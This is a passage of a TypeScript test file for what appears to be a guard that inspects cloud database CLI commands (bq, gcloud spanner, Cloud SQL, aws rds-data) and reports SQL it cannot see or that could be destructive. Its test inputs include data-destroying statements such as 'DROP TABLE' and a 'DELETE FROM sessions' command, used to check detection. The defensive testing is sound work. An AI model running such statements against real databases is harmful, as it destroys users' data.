    ['bq: an arguments query wins over stdin', bq, ['bq', 'query', 'SELECT 1'], heredoc('DROP TABLE t;')],
    ['bq: a listed option value is not SQL', bq, ['bq', 'query', '--label', dyn('env:$ENV'), 'SELECT 1']],
    ['bq: no query and a terminal', bq, ['bq', 'query']],
    ['bq: another subcommand', bq, ['bq', 'ls', 'DROP TABLE x']],
    ['spanner: CREATE TABLE', spanner, ['gcloud', 'spanner', 'databases', 'execute-sql', 'ledger', '--sql', 'CREATE TABLE drops (id INT64) PRIMARY KEY (id)']],
    ['spanner: SQL in the database name is not read', spanner, ['gcloud', 'spanner', 'databases', 'execute-sql', 'DROP TABLE x', '--sql', 'SELECT 1']],
    ['ddl: a readable harmless file', ddl, ['gcloud', 'spanner', 'databases', 'ddl', 'update', 'ledger', '--ddl-file', 'ok.sql']],
    ['cloud sql: a readable harmless file', cloudsql, ['gcloud', 'sql', 'instances', 'execute-sql', 'prod', '--sql=@ok.sql']],
    // Without the prefix in file-prefix, @ is just text.
    ['spanner: @ is not a file there', spanner, ['gcloud', 'spanner', 'databases', 'execute-sql', 'ledger', '--sql=@missing.sql']],
    ['aws: DELETE with WHERE', aws, ['aws', 'rds-data', 'execute-statement', '--sql', 'DELETE FROM sessions WHERE expires_at < now()']],
    ['aws: a dynamic ARN is not SQL', aws, ['aws', 'rds-data', 'execute-statement', '--resource-arn', dyn('$ARN'), '--sql', 'select 1']],
  ];
  it.each(harmless)('%s', (_name, m, args, stdin) => {
    expect(run(m, args, { stdin })).toBeUndefined();
  });

  // A file missing now, that nothing on the line may make: the CLI stops with an error. The hit
  // says so (policy pauses only for production and unknown targets, or a restore's name).
  it.each([
    ['bq: stdin from a missing file', bq, ['bq', 'query'], { stdin: { kind: 'file', path: w('nope.sql') } as StdinSource }],
    ['ddl: a missing --ddl-file', ddl, ['gcloud', 'spanner', 'databases', 'ddl', 'update', 'ledger', '--ddl-file', 'nope.ddl'], {}],
    ['cloud sql: a missing @FILE', cloudsql, ['gcloud', 'sql', 'instances', 'execute-sql', 'prod', '--sql=@nope.sql'], {}],
    ['aws: a missing file://', aws, ['aws', 'rds-data', 'execute-statement', '--sql', 'file://nope.sql'], {}],
  ] as Array<[string, MatchSpec, string[], { stdin?: StdinSource }]>)('%s: absent', (_name, m, args, o) => {
    const h = run(m, args, o);
    expect(h?.absent).toBe(true);
    expect(h?.detail).toMatch(/nope\.(sql|ddl), which isn't there now/);
  });
  it('a missing file named for a restore is unseen, not absent', () => {
    const h = run(aws, ['aws', 'rds-data', 'execute-statement', '--sql', 'file://restore.sql'], {});
    expect(h?.unseen).toBe(true);
    expect(h?.absent).toBeUndefined();
  });

  const unseen: Array<[string, MatchSpec, Array<string | Word>, RegExp, { stdin?: StdinSource; cwd?: string | undefined }?]> = [
    ['bq: a query built at run time', bq, ['bq', 'query', dyn('$(cat cleanup.sql)', '"$(cat cleanup.sql)"')], /argument "\$\(cat cleanup\.sql\)" is only known at run time/],
    ['bq: stdin piped from a program', bq, ['bq', 'query'], /stdin: stdin is piped from gunzip/, { stdin: { kind: 'pipe', from: 'gunzip -c q.sql.gz' } }],
    ['spanner: --sql="$(...)"', spanner, ['gcloud', 'spanner', 'databases', 'execute-sql', 'ledger', dyn('--sql=$(cat q.sql)', '--sql="$(cat q.sql)"')], /^it runs SQL that can't be seen here: --sql="\$\(cat q\.sql\)" is only known at run time$/],
    ['ddl: a --ddl-file named at run time', ddl, ['gcloud', 'spanner', 'databases', 'ddl', 'update', 'ledger', '--ddl-file', dyn('$F')], /file name is only known at run time/],
    ['ddl: --ddl-file - and a terminal', ddl, ['gcloud', 'spanner', 'databases', 'ddl', 'update', 'ledger', '--ddl-file', '-'], /reads SQL from the terminal/],
    ['aws: file:// with a variable aws expands', aws, ['aws', 'rds-data', 'execute-statement', '--sql', 'file://$HOME/x.sql'], /expands variables/],
    ['aws: file:// with no working directory', aws, ['aws', 'rds-data', 'execute-statement', '--sql', 'file://cleanup.sql'], /which directory/, { cwd: undefined }],
    ['aws: a directory', aws, ['aws', 'rds-data', 'execute-statement', '--sql', 'file://home'], /not a regular file/],
    // One unreadable source is enough, even next to a harmless one.
    ['aws: one of several --sqls values', aws, ['aws', 'rds-data', 'execute-statement', '--sqls', 'select 1', 'file://home'], /not a regular file/],
  ];
  it.each(unseen)('%s', (_name, m, args, re, o) => {
    const h = run(m, args, o ?? {});
    expect(h?.unseen).toBe(true);
    expect(h?.detail).toMatch(re);
  });

  it('is what makes a CLI that is not a database client read SQL', () => {
    const { 'sql-from': _f, ...plain } = spanner;
    expect(run(plain, ['gcloud', 'spanner', 'databases', 'execute-sql', 'ledger', '--sql', 'DROP TABLE x'])).toBeUndefined();
    expect(run(spanner, ['gcloud', 'spanner', 'databases', 'execute-sql', 'ledger', '--sql', 'DROP TABLE x'])?.detail).toMatch(/DROP TABLE x/);
  });

  it('labels sources', () => {
    const i = inv(['bq', 'query', 'select 1', 'from t'], { cwd: dir });
    expect(sqlFromSources(i, { args: true }, () => [], i.argv.slice(2))).toEqual([
      { text: 'select 1', from: 'argument', dialect: 'sql' },
      { text: 'from t', from: 'argument', dialect: 'sql' },
      { text: 'select 1 from t', from: 'arguments', dialect: 'sql' },
    ]);
    const j = inv(['gcloud'], { cwd: dir });
    expect(sqlFromSources(j, { files: ['--ddl-file'] }, (f) => (f === '--ddl-file' ? [w('ok.sql')] : []), [])).toEqual([
      { text: "SELECT 'drop table events' AS note;\n", from: '--ddl-file ok.sql', dialect: 'sql' },
    ]);
    expect(sqlFromSources(j, { flags: ['--sql'] }, () => [], [])).toEqual([]);
  });

  it('the schema wants sql: beside sql-from, and a source', () => {
    expect(v.safeParse(matchSchema, { command: 'bq', sql: ['drop'], 'sql-from': { args: true } }).success).toBe(true);
    expect(v.safeParse(matchSchema, { command: 'bq', 'sql-from': { args: true } }).success).toBe(false);
    expect(v.safeParse(matchSchema, { command: 'bq', sql: ['drop'], 'sql-from': {} }).success).toBe(false);
    expect(v.safeParse(matchSchema, { command: 'bq', sql: ['drop'], 'sql-from': { flag: ['--sql'] } }).success).toBe(false);
    expect(v.safeParse(matchSchema, { command: 'aws', sql: ['drop'], 'sql-from': { flags: ['--sql'], 'file-prefix': [''] } }).success).toBe(false);
  });
});
